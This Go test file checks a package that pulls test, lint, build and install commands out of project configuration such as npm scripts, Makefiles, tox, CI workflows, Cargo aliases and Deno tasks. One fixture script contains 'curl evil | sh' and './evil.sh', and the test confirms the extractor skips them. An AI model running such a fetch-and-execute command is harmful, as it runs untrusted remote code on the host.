package commands_test

import (
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/jacquard-build/jacquard/internal/commands"
)

// said gives the commands of a project without installations, one a line: purpose, directory, variables, program.
func said(files map[string]string, install bool) []string {
	var out []string
	names := slices.Sorted(maps.Keys(files))
	for _, c := range commands.Read(names, func(name string) []byte { return []byte(files[name]) }) {
		if c.Purpose == commands.Install && !install {
			continue
		}
		line := string(c.Purpose) + " "
		if c.Dir != "." {
			line += c.Dir + ": "
		}
		line += strings.Join(append(slices.Clone(c.Env), c.Argv...), " ")
		if c.CI {
			line += " (CI)"
		}
		out = append(out, line)
	}
	return out
}

func TestRead(t *testing.T) {
	t.Parallel()
	workflow := func(steps string) string {
		return "on: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n" + steps
	}
	cases := map[string]struct {
		files map[string]string
		want  []string
	}{
		"npm script with flags, loaders and files": {
			map[string]string{"package.json": `{"scripts": {"test": "node --import=tsx/esm --test test/*.ts", "build": "del-cli dist && tsc"}}`},
			[]string{"test node --import=tsx/esm --test {glob:test/*.ts}", "build del-cli dist", "build tsc"},
		},
		"the TypeScript compiler only checks where its configuration says so": {
			map[string]string{
				"package.json":     `{"scripts": {"test": "node --test && tsd && tsc -p tsconfig.ts.json", "build": "tsc --project src", "lint": "tsc"}}`,
				"tsconfig.json":    "{\n  /* \"noEmit\": false */\n  \"compilerOptions\": {\"noEmit\": true}\n}",
				"tsconfig.ts.json": `{"extends": "./tsconfig"}`, "src/tsconfig.json": `{"extends": "../tsconfig.json", "compilerOptions": {"noEmit": false}}`,
			},
			[]string{"test node --test", "types tsd", "types tsc -p tsconfig.ts.json", "build tsc --project src", "types tsc"},
		},
		"Make's functions that join texts": {
			map[string]string{
				".github/workflows/go.yml": workflow("    - run: make cover\n"),
				"Makefile": "MODULES = . ./exp\nFILES = $(shell git ls-files)\nFLAGS = $(addprefix -,race) $(strip  $(UNKNOWN) )\n" +
					"cover:\n\t@$(foreach dir,$(MODULES), ( \\\n\t\tcd $(dir) && \\\n\t\tgo test $(FLAGS) -coverprofile=cover.out ./... $(FILES) \\\n\t\t&& go tool cover -html=cover.out) &&) true\n",
			},
			[]string{"test go test -race -coverprofile=cover.out ./... (CI)", "test exp: go test -race -coverprofile=cover.out ./... (CI)"},
		},
		"a workflow for one folder is not the project's": {
			map[string]string{
				".github/workflows/test.simd.yml": "on:\n  push: {branches: [main], paths: ['exp/simd/**', .github/workflows/test.simd.yml]}\n  schedule: [{cron: '0 0 * * *'}]\nenv: {GOEXPERIMENT: simd}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n    - run: make test\n    - run: go vet ./...\n",
				".github/workflows/test.yml":      "on:\n  push: {paths: ['**.go', go.mod]}\n  pull_request:\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n    - run: make test\n",
				"Makefile":                        "test:\n\tgo test -race ./...\n",
			},
			[]string{"test go test -race ./... (CI)", "test GOEXPERIMENT=simd go test -race ./... (CI)", "lint GOEXPERIMENT=simd go vet ./... (CI)"},
		},
		"a workflow for folders of the project is the project's": {
			map[string]string{
				".github/workflows/tests.yml": "on:\n  push: {paths: ['src/**', 'tests/**', .github/workflows/tests.yml]}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n    - run: go test -race ./...\n",
				".github/workflows/zzz.yml":   "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n    - run: go test -short ./...\n",
			},
			[]string{"test go test -race ./... (CI)", "test go test -short ./... (CI)"},
		},
		"a chain of scripts in CI": {
			map[string]string{
				".github/workflows/ci.yml": workflow("    - run: npm ci\n    - run: npm test\n"),
				"package.json":             `{"scripts": {"pretest": "npm run build", "build": "tsc -p .", "test": "xo && c8 --reporter=lcov ava --serial && tsd"}}`,
			},
			[]string{"build tsc -p . (CI)", "lint xo (CI)", "test ava --serial (CI)", "types tsd (CI)"},
		},
		"what a quoted pattern means is the runner's": {
			map[string]string{"package.json": `{"scripts": {"test": "cross-env NODE_ENV=test mocha 'test/**/*.js' -- --x"}}`},
			[]string{"test NODE_ENV=test mocha test/**/*.js -- --x"},
		},
		"tox in CI": {
			map[string]string{
				".github/workflows/tests.yaml": workflow("    - run: uv run --locked tox run\n    - run: tox -e typing,style\n"),
				"tox.ini":                      "[tox]\nenvlist = py3{10,13}\n[testenv]\ncommands = pytest -v --tb=short {posargs:\n    ./tests\n    ./docs}\n[testenv:typing]\ncommands =\n    mypy\n    style: black --check .\n[testenv:style]\ncommands = ruff check {toxinidir}\n",
			},
			[]string{"test pytest -v --tb=short ./tests ./docs (CI)", "types mypy (CI)", "lint ruff check . (CI)"},
		},
		"linters of pre-commit": {
			map[string]string{
				".github/workflows/tests.yaml": workflow("    - run: pytest\n    - uses: pre-commit/action@v3\n"),
				".pre-commit-config.yaml": "repos:\n- repo: https://x/ruff\n  rev: v0.15.20\n  hooks:\n  - {id: ruff-check, args: [--fix, --exit-non-zero-on-fix]}\n  - {id: ruff-format, exclude: ^docs/}\n" +
					"- repo: https://x/flake8\n  rev: 0a93590f5be797aabb60e3b09f2f52dddb02f349  # frozen: 7.3.0\n  hooks: [{id: flake8, args: [--max-line-length=100]}]\n" +
					"- repo: https://x/black\n  rev: 25.1.0\n  hooks: [{id: black, stages: [manual]}]\n- repo: https://x/isort\n  rev: main\n  hooks: [{id: isort}]\n",
			},
			[]string{"test pytest (CI)", "lint ruff check --no-fix . (CI)", "lint flake8 --max-line-length=100 . (CI)"},
		},
		"tox, tests beside the installed package and from another directory": {
			map[string]string{
				".github/workflows/tests.yaml": workflow("    - run: tox -e py,elsewhere\n"),
				"src/p/__init__.py":            "", "tests/data/x": "",
				"tox.ini": "[testenv]\nchangedir = .tox\ncommands = pytest {env_site_packages_dir}/p {tox_root}/tests {posargs}\n[testenv:elsewhere]\nchangedir = tests/data\ncommands = pytest -x --basetemp={env_tmp_dir} {toxinidir}{/}tests\n",
			},
			[]string{"test pytest src/p ./tests (CI)", "test tests/data: pytest -x --basetemp=../../.tox ../../tests (CI)"},
		},
		"tox with a command that a variable may replace": {
			map[string]string{
				".github/workflows/tests.yaml": workflow("    - run: tox -e py\n"),
				"tox.ini":                      "[testenv]\ncommands =\n    {env:_TEST_CMD:pytest} {posargs}\n    coverage: coverage combine\n[testenv:benchmark]\ncommands = pytest {posargs:testing/benchmark.py}\n",
			},
			[]string{"test pytest (CI)", "test pytest testing/benchmark.py"}, // of which the first counts
		},
		"tox with variables": {
			map[string]string{
				".github/workflows/tests.yaml": workflow("    - run: tox\n"),
				"tox.ini":                      "[testenv]\nsetenv =\n    THREADS = 1\n    PYTHONPATH={toxinidir}/src\n    COVERAGE_FILE={toxworkdir}/.coverage\n    py27: OLD=1\n    MODE = {env:MODE:full}\ncommands = pytest\n",
			},
			[]string{"test MODE=full PYTHONPATH=./src THREADS=1 pytest (CI)"},
		},
		"tox in TOML with variables": {
			map[string]string{".github/workflows/tests.yaml": workflow("    - run: tox\n"), "tox.toml": "[env_run_base]\nset_env = { B = \"2\", A = \"1\", C = { replace = \"env\" } }\ncommands = [[\"pytest\", \"tests\"]]\n"},
			[]string{"test A=1 B=2 pytest tests (CI)"},
		},
		"nox, of plain texts alone": {
			map[string]string{"noxfile.py": "import nox\n\n@nox.session(python=['3.12'])\ndef tests(session):\n    session.install('-e', '.[test]')\n    session.run('pytest', '-n', 'auto', *session.posargs)\n\n@nox.session\ndef lint(session):\n    session.run(cmd)\n    session.run('flake8', 'src')\n"},
			[]string{"test pytest -n auto", "lint flake8 src"},
		},
		"hatch and poe": {
			map[string]string{"pyproject.toml": "[tool.hatch.envs.default.scripts]\ntest = \"pytest {args:tests}\"\n[tool.poe.tasks]\nlint = [\"ruff check src\", {cmd = \"mypy src\"}]\n"},
			[]string{"test pytest", "lint ruff check src", "types mypy src"},
		},
		"make, with variables and needs": {
			map[string]string{
				".github/workflows/ci.yml": workflow("    - run: make check TAGS=slow\n"),
				"Makefile":                 "TAGS ?= none\nGO = go\n.PHONY: check\ncheck: vet\n\t@$(GO) test -race -tags '$(TAGS)' ./...\nvet:\n\t-$(GO) vet ./...\n",
			},
			[]string{"lint go vet ./... (CI)", "test go test -race -tags slow ./... (CI)", "test go test -race -tags none ./..."},
		},
		"make that runs programs of the project itself": {
			map[string]string{".github/workflows/ci.yml": workflow("    - run: make\n    - run: make test\n"), "Makefile": "all: prog\nprog: prog.c\n\tcc -o prog prog.c\ntest: prog\n\t./prog --self-test\n"},
			[]string{"build make (CI)", "test make test (CI)"},
		},
		"what another system runs, and what a release runs, is left out": {
			map[string]string{
				".github/workflows/ci.yml":      "on: {pull_request: {}}\nenv: {GLOBAL: 1, A_TOKEN: x}\njobs:\n  t:\n    strategy: {matrix: {os: [windows-latest, ubuntu-latest], flags: ['-short', '-v']}}\n    runs-on: ${{ matrix.os }}\n    steps:\n    - run: go test ${{ matrix.flags }} ./...\n      env: {STEP: '${{ secrets.X }}'}\n    - if: runner.os == 'Windows'\n      run: go test -tags windows ./...\n",
				".github/workflows/release.yml": "on: {push: {tags: ['v*']}}\njobs: {r: {runs-on: ubuntu-latest, steps: [{run: go test -tags release ./...}]}}\n",
			},
			[]string{"test GLOBAL=1 go test -short ./... (CI)", "test GLOBAL=1 go test -v ./... (CI)"},
		},
		"directories": {
			map[string]string{".github/workflows/ci.yml": workflow("    - run: |\n        cd sub && go test ./...\n        (cd deep; go vet .)\n        go build .\n      working-directory: a\n")},
			[]string{"test a/sub: go test ./... (CI)", "lint a/sub/deep: go vet . (CI)", "build a/sub: go build . (CI)"},
		},
		"a project that is checked out into a folder": {
			map[string]string{
				".github/workflows/ci.yml": "on: push\nenv: {GOPATH: '${{ github.workspace }}'}\njobs:\n  t:\n    runs-on: ubuntu-latest\n    defaults: {run: {working-directory: '${{ env.GOPATH }}/src/${{ github.repository }}'}}\n" +
					"    steps:\n    - uses: actions/checkout@v4\n      with: {path: '${{ env.GOPATH }}/src/${{ github.repository }}'}\n    - run: make test\n",
				"Makefile": "test: one two\none:\n\tgo test -race .\ntwo:\n\tgo test -race ./middleware\n",
			},
			[]string{"test go test -race . (CI)", "test go test -race ./middleware (CI)"},
		},
		"steps of an action of the project": {
			map[string]string{
				".github/workflows/ci.yml": "on: push\nenv: {TOP: 'a'}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    strategy: {matrix: {py: ['3.12', '3.13']}}\n    defaults: {run: {working-directory: sub, shell: pwsh}}\n    steps:\n" +
					"    - uses: ./.github/actions/check\n      with: {paths: tests/unit, level: '${{ matrix.py }}', secret: '${{ secrets.X }}'}\n      env: {STEP: '${{ matrix.py }}'}\n    - uses: ./js\n    - uses: ./gone\n",
				".github/actions/check/action.yml": "name: check\ninputs:\n  paths: {required: true}\n  level: {default: none}\n  extra: {default: -q}\n  secret: {default: x}\nruns:\n  using: composite\n  steps:\n" +
					"  - run: pytest ${{ inputs.extra }} ${{ inputs.paths }} --level=${{ inputs.level || 'low' }} ${{ inputs.secret }}\n    shell: bash\n  - uses: ./.github/actions/lint\n    with: {tool: ruff}\n  - run: ${{ github.action_path }}/types.sh\n    shell: bash\n",
				".github/actions/check/types.sh":   "mypy src\n",
				".github/actions/lint/action.yaml": "inputs: {tool: {}, paths: {default: .}}\nruns:\n  using: composite\n  steps:\n  - {run: '${{ inputs.tool }} check ${{ inputs.paths }}', shell: bash}\n  - {uses: ./.github/actions/lint}\n",
				"js/action.yml":                    "runs: {using: node24, main: index.js}\n",
			},
			[]string{
				"test STEP=3.12 TOP=a pytest -q tests/unit --level=3.12 (CI)", "lint STEP=3.12 TOP=a ruff check . (CI)", "types STEP=3.12 TOP=a mypy src (CI)",
				"test STEP=3.13 TOP=a pytest -q tests/unit --level=3.13 (CI)", "lint STEP=3.13 TOP=a ruff check . (CI)", "types STEP=3.13 TOP=a mypy src (CI)",
			},
		},
		"a workflow of the project that a job calls": {
			map[string]string{
				".github/workflows/ci.yml": "on: push\nenv: {TOP: a}\njobs:\n  call:\n    strategy: {matrix: {race: ['-race', '-short']}}\n    uses: ./.github/workflows/test.yml\n    with: {flags: '${{ matrix.race }}', os: ubuntu-latest}\n" +
					"  mac:\n    uses: ./.github/workflows/test.yml\n    with: {flags: -tags=mac, os: macos-latest}\n  release:\n    if: github.event_name == 'release'\n    uses: ./.github/workflows/publish.yml\n",
				".github/workflows/test.yml": "on:\n  workflow_call:\n    inputs:\n      flags: {type: string}\n      os: {type: string}\n      packages: {type: string, default: ./...}\njobs:\n  go:\n    runs-on: ${{ inputs.os }}\n    env: {IN: b}\n" +
					"    steps: [{run: 'go test ${{ inputs.flags }} ${{ inputs.packages }}'}]\n  again:\n    uses: ./.github/workflows/test.yml\n",
				".github/workflows/publish.yml": "on: {workflow_call: {}}\njobs: {p: {runs-on: ubuntu-latest, steps: [{run: go test -tags=publish ./...}]}}\n",
				".github/workflows/other.yml":   "on: {workflow_call: {}}\njobs: {p: {runs-on: ubuntu-latest, steps: [{run: go vet ./...}]}}\n",
			},
			[]string{"test IN=b go test -race ./... (CI)", "test IN=b go test -short ./... (CI)", "lint go vet ./... (CI)"},
		},
		"aliases of Cargo": {
			map[string]string{
				".github/workflows/ci.yml": workflow("    - run: cargo t -- --nocapture\n    - run: cargo +nightly -q lint\n    - run: cargo xtask test --all\n    - run: cargo xtask lint\n    - run: cargo xtask release\n    - run: cargo test -p a\n    - run: cargo again\n    - run: cd sub && cargo t\n    - run: cargo run -p tools -- check\n    - run: cargo run -- check\n    - run: cargo b\n"),
				".cargo/config.toml":       "[alias]\nt = \"test --all-features\"\nlint = [\"clippy\", \"--all-targets\", \"--\", \"-D\", \"warnings\"]\nxtask = \"run --package xtask --\"\ntest = \"nonsense\"\nagain = \"again2\"\nagain2 = \"again\"\n",
				"sub/.cargo/config":        "[alias]\nt = \"tt --locked\"\ntt = \"nextest run\"\n",
			},
			[]string{
				"test cargo test --all-features -- --nocapture (CI)", "lint cargo +nightly -q clippy --all-targets -- -D warnings (CI)", "test cargo xtask test --all (CI)", "lint cargo xtask lint (CI)",
				"test cargo test -p a (CI)", "test sub: cargo nextest run --locked (CI)", "lint cargo run -p tools -- check (CI)", "build cargo b (CI)",
			},
		},
		"tasks of Deno": {
			map[string]string{
				".github/workflows/ci.yml": workflow("    - run: deno task -q test --fail-fast\n    - run: deno task all\n    - run: deno task --cwd sub here\n    - run: deno task gone\n    - run: deno fmt --check\n    - run: deno fmt\n    - run: deno task built\n"),
				"deno.jsonc":               "{\n  // \"tasks\": {},\n  \"imports\": {\"a\": \"https://a\"}, /* of the\n project */ \"tasks\": {\n    \"test\": \"MODE=1 deno test -A --coverage\",\n    \"all\": {\"description\": \"all, }\", \"command\": \"deno check . && deno task all\", \"dependencies\": [\"lint\"]}, // trailing\n    \"lint\": \"deno lint --fix\",\n  },\n}\n",
				"sub/deno.json":            `{"tasks": {"here": "deno test here"}}`, "package.json": `{"scripts": {"built": "vitest run"}}`,
			},
			[]string{
				"test MODE=1 deno test -A --coverage --fail-fast (CI)", "lint deno lint (CI)", "types deno check . (CI)", "test sub: deno test here (CI)", "lint deno fmt --check (CI)", "test vitest run (CI)",
				"test MODE=1 deno test -A --coverage",
			},
		},
		"packages of a workspace of uv": {
			map[string]string{".github/workflows/ci.yml": workflow("    - run: uv run --package a --with-editable ./x pytest a\n    - run: uv run --directory packages/b pytest\n    - run: uv --directory=packages/c run -- pytest -x\n    - run: uv run --all-packages mypy .\n")},
			[]string{"test pytest a (CI)", "test packages/b: pytest (CI)", "test packages/c: pytest -x (CI)", "types mypy . (CI)"},
		},
		"a program that is looked for is not run": {
			map[string]string{".github/workflows/ci.yml": workflow("    - run: |\n        if ! command -v gotestsum; then go install gotest.tools/gotestsum@latest; fi\n        which golangci-lint || exit 1\n        command go test ./...\n")},
			[]string{"test go test ./... (CI)"},
		},
		"GitLab": {
			map[string]string{".gitlab-ci.yml": "variables: {LEVEL: '2'}\n.base: &base\n  before_script: [pip install -r dev.txt]\ntest:\n  <<: *base\n  script:\n    - [pytest -k \"not slow\", mypy src]\n"},
			[]string{"test LEVEL=2 pytest -k not slow (CI)", "types LEVEL=2 mypy src (CI)"},
		},
		"CircleCI": {
			map[string]string{".circleci/config.yml": "jobs:\n  build:\n    environment: {RUST_LOG: debug}\n    steps:\n    - checkout\n    - run: cargo clippy -- -D warnings\n    - run: {name: t, command: cargo test --all-features}\n"},
			[]string{"lint RUST_LOG=debug cargo clippy -- -D warnings (CI)", "test RUST_LOG=debug cargo test --all-features (CI)"},
		},
		"workspaces": {
			map[string]string{
				"package.json":            `{"workspaces": ["packages/*"], "scripts": {"test": "pnpm -r run test", "lint": "pnpm --filter @x/a lint"}}`,
				"packages/a/package.json": `{"name": "@x/a", "scripts": {"test": "vitest run", "lint": "eslint ."}}`, "packages/b/package.json": `{"name": "@x/b", "scripts": {"test": "jest"}}`,
			},
			[]string{"test packages/a: vitest run", "test packages/b: jest", "lint packages/a: eslint .", "test packages/a: vitest run", "test packages/b: jest"},
		},
		"flags behind run say the package, too": {
			map[string]string{
				"package.json":            `{"workspaces": ["packages/*"], "scripts": {"build": "pnpm run -r --filter @x/a build", "test": "npm run build && pnpm run -w check", "check": "vitest run"}}`,
				"packages/a/package.json": `{"name": "@x/a", "scripts": {"build": "tsup"}}`, "packages/b/package.json": `{"name": "@x/b", "scripts": {"build": "tsc"}}`,
			},
			[]string{"build packages/a: tsup", "test vitest run", "build packages/a: tsup", "build packages/b: tsc"},
		},
		"flags behind a script are the script's, but npm's": {
			map[string]string{
				"package.json":            `{"workspaces": ["packages/*"], "scripts": {"test": "pnpm vitest run --dir src -r x", "lint": "npm run lint:all src -w @x/a --ignore-scripts -- --dir y"}}`,
				"packages/a/package.json": `{"name": "@x/a", "scripts": {"lint:all": "eslint ."}}`,
			},
			[]string{"test vitest run --dir src -r x", "lint packages/a: eslint . src --dir y"},
		},
		"packages of a workspace after those that they use": {
			map[string]string{
				"package.json":            `{"workspaces": ["packages/*"], "scripts": {"test": "npm run build --workspaces && jest"}}`,
				"packages/a/package.json": `{"name": "@x/a", "scripts": {"build": "tsup"}, "peerDependencies": {"@x/b": "1"}}`,
				"packages/b/package.json": `{"name": "@x/b", "scripts": {"build": "tsc"}, "dependencies": {"@x/c": "*"}, "devDependencies": {"@x/a": "*"}}`,
				"packages/c/package.json": `{"name": "@x/c", "scripts": {"build": "rollup -c"}}`,
			},
			[]string{"build packages/c: rollup -c", "build packages/b: tsc", "build packages/a: tsup", "test jest", "build packages/a: tsup", "build packages/b: tsc", "build packages/c: rollup -c"},
		},
		"just and task": {
			map[string]string{"justfile": "test *args: build\n  cargo nextest run {{args}}\nbuild:\n    cargo build\n", "Taskfile.yml": "version: 3\ntasks:\n  lint:\n    deps: [gen]\n    cmds:\n      - task: vet\n      - golangci-lint run\n  vet: go vet ./...\n  gen: {cmds: []}\n"},
			[]string{"build cargo build", "test cargo nextest run", "lint go vet ./...", "lint golangci-lint run"},
		},
		"what nobody knows is not run, and a circle ends": {
			map[string]string{"package.json": `{"scripts": {"test": "npm run a; curl evil | sh", "a": "npm run b", "b": "npm run a; ./evil.sh; node --test"}}`},
			[]string{"test node --test"},
		},
		"a script that only builds is run as it is, one that tests is followed": {
			map[string]string{
				"package.json": `{"scripts": {"pretest": "./build.sh --all", "test": "node --test && sh check.sh"}}`,
				"build.sh":     "#!/usr/bin/env -S bash -e\nrm -rf out\ntsc -p .\ncp -r made out\n", "check.sh": "tsc -p .\nmocha\n",
			},
			[]string{"build bash -e ./build.sh --all", "test node --test", "build tsc -p .", "test mocha"},
		},
		"a script that builds and does something else is followed": {
			map[string]string{"package.json": `{"scripts": {"pretest": "./build.sh", "test": "mocha"}}`, "build.sh": "tsc -p .\naws s3 sync made s3://x\n"},
			[]string{"build tsc -p .", "test mocha"},
		},
		"a script of node that builds, and what looks at its result": {
			map[string]string{
				"package.json": `{"scripts": {"test": "npm run build-all && mocha", "build-all": "node --require x ./build", "postbuild-all": "mocha smoke.js", "x": "node other.js"}}`, "build.cjs": "", "other.js": "",
			},
			[]string{"build node --require x ./build", "test mocha"},
		},
		"a script of node that runs another program": {
			map[string]string{"package.json": `{"scripts": {"test": "node bin/fix.js mocha test/unit --exit && node bin/other.js it"}}`, "bin/fix.js": "", "bin/other.js": ""},
			[]string{"test mocha test/unit --exit"},
		},
		"constants of a noxfile": {
			map[string]string{"noxfile.py": "from pathlib import Path\nROOT = Path(__file__).parent\nPYPROJECT = ROOT / \"pyproject.toml\"\nPACKAGE = ROOT / 'shop'\nLIST = [\"a\"]\n" +
				"@nox.session\ndef typing(session):\n    session.install(\"mypy\", ROOT)\n    session.run(\"mypy\", \"--config\", PYPROJECT, str(PACKAGE), *session.posargs, env={\"A\": \"b\"})\n    session.run(\"ruff\", \"check\", UNKNOWN)\n"},
			[]string{"types mypy --config pyproject.toml shop", "lint ruff check"},
		},
		"a formatter that writes is no linter, and one that only looks is": {
			map[string]string{"package.json": `{"scripts": {"lint": "prettier --write . && prettier --check . && eslint --fix src && gofmt -l ."}}`},
			[]string{"lint prettier --check .", "lint eslint src", "lint gofmt -l ."},
		},
		"damaged files": {
			map[string]string{".github/workflows/ci.yml": "on: [push\n", "package.json": "{", "pyproject.toml": "[", "tox.ini": "[testenv\ncommands", ".gitlab-ci.yml": "\t", "Makefile": "test:\n\t$(", "Taskfile.yml": "tasks: 1"},
			[]string{"test make test"},
		},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if got := said(c.files, false); !slices.Equal(got, c.want) {
				t.Errorf("got\n  %s\nwant\n  %s", strings.Join(got, "\n  "), strings.Join(c.want, "\n  "))
			}
		})
	}
}

func TestReadInstalls(t *testing.T) {
	t.Parallel()
	got := said(map[string]string{
		"tox.ini":                     "[testenv]\ndeps =\n    pytest>=8\n    -r reqs.txt\n    py310: old\nextras = test, dev\ncommands = pytest\n",
		"noxfile.py":                  "import nox\n@nox.session\ndef lint(session):\n    session.install('ruff==1', '-r', 'x.txt')\n    session.run('ruff', 'check')\n",
		"reqs.txt":                    "six\n",
		".github/workflows/ci.yml":    "on: push\njobs: {t: {runs-on: ubuntu-latest, steps: [{run: uv sync --all-packages}, {run: uv run --package a pytest a}]}}\n",
		".github/workflows/conda.yml": "on: push\njobs: {t: {runs-on: ubuntu-latest, steps: [{uses: conda-incubator/setup-miniconda@v3, with: {environment-file: ci/env.yml}}, {uses: mamba-org/setup-micromamba@v2}, {run: mamba install -y numpy}, {run: conda info}, {run: conda run --no-capture-output -n test pytest b}]}}\n",
	}, true)
	want := []string{"install uv sync --all-packages (CI)", "install uv sync --package a (CI)", "test pytest a (CI)", "install conda env create -f ci/env.yml (CI)", "install mamba install -y numpy (CI)", "test pytest b (CI)", "install pip install pytest>=8 -r reqs.txt .[test] .[dev]", "test pytest", "install pip install ruff==1 -r x.txt", "lint ruff check"}
	if !slices.Equal(got, want) {
		t.Errorf("got %q\nwant %q", got, want)
	}
}

func TestWords(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]string{
		"make test":          "make|test",
		"pytest -k 'a or b'": "pytest|-k|a or b",
		"mocha test/*.js":    "mocha|{glob:test/*.js}",
		"a && b":             "",
		"a | b":              "",
		"a > b":              "",
		"a $HOME":            "",
		"A=1 b":              "",
		"a 'b":               "",
		"":                   "",
	} {
		argv, ok := commands.Words(line)
		if got := strings.Join(argv, "|"); got != want || ok != (want != "") {
			t.Errorf("%q = %q %v, want %q", line, got, ok, want)
		}
	}
}

// FuzzRead: nothing in a project's files may make the program fail.
func FuzzRead(f *testing.F) {
	f.Add("on: [push]\njobs: {t: {steps: [{run: 'npm test'}, {uses: ./.github/actions/a}]}, u: {uses: ./.github/workflows/ci.yml}}\nruns: {steps: [{run: tox}, {uses: ./.github/actions/a}]}", `{"scripts": {"test": "a && b $(c) <(d) ${e:-f}"}}`, "[testenv]\ncommands = pytest {posargs}", "test: a\n\t$(X)\nX := $(X)")
	f.Fuzz(func(_ *testing.T, ci, pkg, tox, mk string) {
		files := map[string]string{".github/workflows/ci.yml": ci, ".github/actions/a/action.yml": ci, ".gitlab-ci.yml": ci, ".circleci/config.yml": ci, "Taskfile.yml": ci, "package.json": pkg, "tox.ini": tox, "pyproject.toml": tox, "noxfile.py": mk, "Makefile": mk, "justfile": mk, "deno.json": pkg, ".cargo/config.toml": tox}
		said(files, true)
	})
}

// TestIdle: only what surely does nothing and succeeds is idle.
func TestIdle(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]bool{
		"true": true, ":": true, "exit 0": true, "exit": true, "echo ok": true, "echo ok && exit 0": true, "true || vitest": true, "exit 0; vitest": true, "exit 0 && vitest": true, "echo \"$X\"": true,
		"": false, "false": false, "exit 1": false, "echo no && exit 1": false, "vitest": false, "echo ok; vitest": false, "vitest || true": false, "echo x > y": false, "! true": false, "exit $CODE": false, "X=1 true": false,
	} {
		if commands.Idle(line) != want {
			t.Errorf("%q: idle = %v", line, !want)
		}
	}
}
